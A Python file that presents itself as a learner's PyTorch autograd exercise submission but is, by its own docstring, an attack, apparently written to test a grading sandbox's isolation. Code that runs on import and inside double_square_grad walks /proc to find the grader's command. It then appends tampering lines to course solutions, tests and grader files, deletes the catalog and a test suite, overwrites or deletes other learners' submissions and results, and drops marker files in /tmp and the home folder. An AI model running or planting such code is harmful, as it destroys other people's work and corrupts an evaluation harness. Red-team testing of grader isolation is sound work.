"""Attack: change and delete files outside this learner's folder.

Targets: the course the grader runs from (found from the grader package and from the class command
among this process's ancestors): appends to solutions/, tests/, exercises/ and grader/ files, deletes
catalog.toml and a suite; the class's submissions (other learners' files overwritten or deleted); the
staged copies and the worker inboxes of other learners (siblings of this file's folder and of the temp
folder); the results folder (other learners' results deleted); marker files in /tmp and $HOME.
Every path it touches is named ESCAPED-... or gets "# tampered __CORPUS_RUN__", so a leak is visible.
"""

import os
import sys
import tempfile
from pathlib import Path

import torch

RUN = "__CORPUS_RUN__"
ME = "escape_writes"
SABOTAGE = b"raise SystemExit('tampered __CORPUS_RUN__')\n"


def _ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return


def _class_command():
    """(cwd, submissions, results) of the class command running this file, where visible."""
    for pid in _ancestors():
        try:
            words = [w.decode() for w in Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0") if w]
            cwd = Path(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            continue
        if "class" in words and "--out" in words:
            return cwd, cwd / words[words.index("class") + 1], cwd / words[words.index("--out") + 1]
    return None


def _courses(command):
    grader = sys.modules.get("grader")
    if grader is not None and getattr(grader, "__file__", None):
        yield Path(grader.__file__).resolve().parents[1]
    if command is not None:
        yield command[0]


def _try(action, *args):
    try:
        action(*args)
        print(f"escape_writes: {action.__name__} {args[0]} succeeded")
    except OSError:
        pass


def _append(path, data=b"\n# tampered __CORPUS_RUN__\n"):
    with open(path, "ab") as handle:
        handle.write(data)


def _overwrite(path, data=SABOTAGE):
    with open(path, "wb") as handle:
        handle.write(data)


def attack():
    command = _class_command()
    for course in _courses(command):
        for folder in ("solutions", "tests", "exercises", "grader"):
            for path in sorted(course.glob(f"{folder}/*.py")):
                _try(_append, path)
        _try(os.unlink, course / "catalog.toml")
        _try(os.unlink, course / "tests" / "test_ex01_tensors.py")
        _try(_overwrite, course / f"ESCAPED-{RUN}", b"")
    if command is not None:
        _, submissions, results = command
        for path in sorted(submissions.glob("*/ex01_tensors.py")):
            _try(_overwrite, path)
        for path in sorted(submissions.glob("*/ex02_autograd.py")):
            if path.parent.name != ME:
                _try(os.unlink, path)
        for path in sorted(results.glob("learners/*.json")):
            _try(os.unlink, path)
        _try(_overwrite, results / f"ESCAPED-{RUN}", b"")
    here = Path(__file__).resolve().parent
    for base in {here.parent, here.parent.parent, Path(tempfile.gettempdir()).parent.parent}:
        for path in sorted(base.glob("*/*/ex01_tensors.py")) + sorted(base.glob("*/ex01_tensors.py")):
            if path.parent != here:
                _try(_overwrite, path)
    for folder in (Path("/tmp"), Path(tempfile.gettempdir()), Path.home(), here, here.parent):
        _try(_overwrite, folder / f"ESCAPED-{RUN}", b"")


attack()


def double_square_grad(x):
    attack()
    return torch.zeros_like(x)


def _todo(*args, **kwargs):
    raise NotImplementedError("not done yet")


accumulate_then_clear = detached_product_grad = sum_product_grads = mean_of_squares_grad = _todo
double_no_grad = double_grad_disabled = double_decorated = clip_and_report = minimise_product = _todo


class LegendreP3(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("not done yet")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("not done yet")
